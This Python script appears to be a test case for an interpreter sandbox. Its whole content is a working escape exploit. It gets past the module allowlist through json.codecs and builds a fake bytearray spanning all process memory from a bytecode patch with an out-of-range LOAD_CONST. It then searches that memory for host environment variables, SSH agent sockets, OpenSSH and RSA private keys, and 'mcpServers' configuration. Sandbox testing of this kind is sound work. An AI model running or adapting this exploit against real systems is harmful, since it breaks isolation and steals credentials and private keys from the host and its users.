# trick: scan the whole memory for texts of the host: its environment, its home folder, its Go runtime, keys
# want: nothing
# native: finds


def reach(name):
    """The module of that name, past the allowlist: a loaded one, else through the interpreter's own import."""
    import json
    codecs = json.codecs
    modules = codecs.sys.modules
    if modules.get(name) is None:
        try:
            codecs.builtins.__import__(name)
        except ImportError:
            modules["_frozen_importlib"]._gcd_import(name)
    print("reached", name)
    return modules[name]


def forge():
    """A bytearray over the whole address space: a made-up object, loaded as a constant from outside the constants."""
    import dataclasses
    ops = dataclasses.inspect.dis.opmap
    word = tuple.__itemsize__

    def cell(n):
        return (n % (1 << 8 * word)).to_bytes(word, "little")

    def payload(b):
        return id(b) + bytes.__basicsize__ - 1

    huge = (1 << (8 * word - 1)) - 1
    fake = b"".join(map(cell, (1 << 20, id(bytearray), huge, huge, 0, 0, 0, 0)))
    pointer = cell(payload(fake)) + cell(0)
    consts = (None, "the tuple that is left behind")

    def victim():
        return None

    start = id(consts) + tuple.__basicsize__
    index = ((payload(pointer) - start) // word) % (1 << 32)
    body = bytes((ops["RESUME"], 0))
    for shift in (24, 16, 8):
        body += bytes((ops["EXTENDED_ARG"], index >> shift & 255))
    body += bytes((ops["LOAD_CONST"], index & 255, ops["RETURN_VALUE"], 0))
    code = victim.__code__.replace(co_code=body, co_consts=consts, co_exceptiontable=b"")
    if code.co_consts is not consts:
        raise RuntimeError("the code object made its own constants")
    victim.__code__ = code
    memory = victim()
    forge.keep = (fake, pointer, consts, victim, memory)
    return memory


def spans():
    """The parts of memory that can be read: all of a 32-bit guest up to the last block, else the pages of live objects."""
    import dataclasses
    if tuple.__itemsize__ == 4:
        spans.keep = [bytes(1 << 16) for _ in range(4)]
        return [(1024, max(map(id, spans.keep)) + (1 << 16))]
    gc = dataclasses.inspect.sys.modules.get("gc") or __import__("gc")
    return [(page << 12, page + 1 << 12) for page in sorted({id(o) >> 12 for o in gc.get_objects()})]


def run(ctx):
    memory, found = forge(), []
    marks = [("PA", "TH=/"), ("HO", "ME=/"), ("US", "ER="), ("RUNLACE", "_HOME="), ("GO", "PATH="), ("SSH_AUTH", "_SOCK="), ("BEGIN OPENSSH", " PRIVATE"), ("BEGIN RSA", " PRIVATE"),
             ("/proc/self", "/exe"), ("/ro", "ot/go"), ("/home/", "runner"), ("go1", ".2"), ("wazero", "/internal"), ("github.com/", "tetratelabs"), ("/wo", "rk/main"), ("mcp", "Servers")]
    for first, second in marks:
        word = first.encode() + second.encode()
        for begin, end in spans():
            at = memory.find(word, begin, end)
            while at >= 0:
                # The word itself, put together above, ends with a zero byte; a text of the host goes on.
                if memory[at + len(word)]:
                    found.append(f"{first}: {bytes(memory[at:at + 48])!r}")
                    break
                at = memory.find(word, at + 1, end)
            if len(found) > 10:
                return found
    return found
